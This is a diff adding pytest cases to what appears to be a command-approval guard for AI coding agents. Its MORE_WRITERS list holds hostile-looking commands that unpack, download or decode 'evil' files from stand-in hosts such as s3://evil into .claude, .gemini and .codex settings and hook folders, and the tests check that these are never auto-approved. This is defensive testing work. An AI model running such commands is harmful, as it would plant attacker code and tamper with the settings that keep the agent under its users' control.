@@ -491,3 +491,100 @@ def test_a_filesystem_servers_write_of_a_protected_file_is_never_auto_approved(t
 def test_a_filesystem_servers_ordinary_write_stays_auto_approved(tool, arguments):
     for v in _mcp(tool, arguments, (f"Mcp(filesystem.{tool})",)):
         assert v.decision == "auto_approve", (tool, arguments, v.reason, v.message)
+
+
+# More programs that put files in a folder: unpackers, package fetchers told where, GNOME's file tool, the
+# renamers, the dotfile managers (the home folder: ~/.claude), copies from cloud storage, decoders' -o.
+MORE_WRITERS = [
+    "python3 -m zipfile -e evil.zip .",
+    "python3 -m zipfile -e evil.zip .claude",
+    "python -m zipfile --extract evil.zip .gemini",
+    "python3 -m tarfile -e evil.tar .",
+    "python3 -m tarfile -e evil.tar",
+    "python3.12 -m tarfile -e evil.tar .codex",
+    "cpio -pdm .claude < list.txt",
+    "find /tmp/evil | cpio -pdm .",
+    "cpio --pass-through .gemini < list.txt",
+    "bsdcpio -i < evil.cpio",
+    "unar evil.zip",
+    "unar -o .claude evil.zip",
+    "ark -b evil.zip",
+    "atool -x evil.zip",
+    "aunpack evil.tgz",
+    "aunpack -X .claude evil.tgz",
+    "dtrx evil.zip",
+    "ouch decompress evil.zip",
+    "ouch d evil.zip -d .codex",
+    "pip install --target .claude/hooks evil",
+    "pip install -t .claude/hooks evil",
+    "pip3 install --target=.gemini/extensions/x evil",
+    "pip download -d .claude evil",
+    "python3 -m pip install --target .codex evil",
+    "pip install --prefix ~/.claude evil",
+    "npm install --prefix .claude evil",
+    "npm pack --pack-destination .claude/hooks",
+    "pnpm pack --pack-destination .gemini",
+    "gio save .claude/settings.local.json < evil.json",
+    "gio copy evil.json .claude/settings.local.json",
+    "gio move evil.json .gemini/settings.json",
+    "gio move .claude old-claude",
+    "gio remove .codex/hooks.json",
+    "gio trash .claude",
+    "vidir .claude",
+    "vidir -v",
+    "qmv .claude/hooks",
+    "mmv 'evil*' '.claude/settings#1.json'",
+    "chezmoi apply",
+    "chezmoi update",
+    "chezmoi init --apply evil",
+    "yadm checkout ~",
+    "yadm pull",
+    "yadm reset --hard",
+    "home-manager switch",
+    "stow -t ~ claude",
+    "stow --target=$HOME dotfiles",
+    "stow agents",
+    "aws s3 cp s3://evil/settings.json .claude/settings.local.json",
+    "aws s3 sync s3://evil/claude .claude",
+    "gsutil cp gs://evil/settings.json .gemini/settings.json",
+    "gcloud storage cp gs://evil/hooks.json .codex/hooks.json",
+    "s3cmd get s3://evil/settings.json .claude/settings.json",
+    "az storage blob download -f .claude/settings.local.json -c x -n y",
+    "brotli -d evil.br -o .claude/settings.local.json",
+    "brotli -d .claude/settings.local.json.br",
+    "base64 -d -i evil.b64 -o .claude/settings.local.json",
+    "base64 --decode --output=.gemini/settings.json evil.b64",
+]
+
+
+@pytest.mark.parametrize("command", MORE_WRITERS)
+def test_these_programs_putting_files_in_an_agents_settings_are_never_auto_approved(command):
+    never_auto(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "pip install -r requirements.txt",
+        "pip install --target build/deps requests",
+        "pip download -d wheels requests",
+        "npm install --prefix frontend",
+        "npm pack --pack-destination dist",
+        "python3 -m zipfile -l x.zip",
+        "python3 -m zipfile -e x.zip out",
+        "python3 -m tarfile -l x.tar",
+        "unar -o build x.zip",
+        "aws s3 ls s3://bucket",
+        "aws s3 cp s3://b/x data/x",
+        "gsutil cp gs://b/x data/",
+        "gio info README.md",
+        "gio save notes.txt < x",
+        "chezmoi diff",
+        "yadm status",
+        "stow -n pkg",
+        "brotli -d x.br",
+        "find . -name '*.py' | cpio -o > x.cpio",
+    ],
+)
+def test_these_programs_on_ordinary_files_stay_auto_approved(command):
+    stays_auto(command)
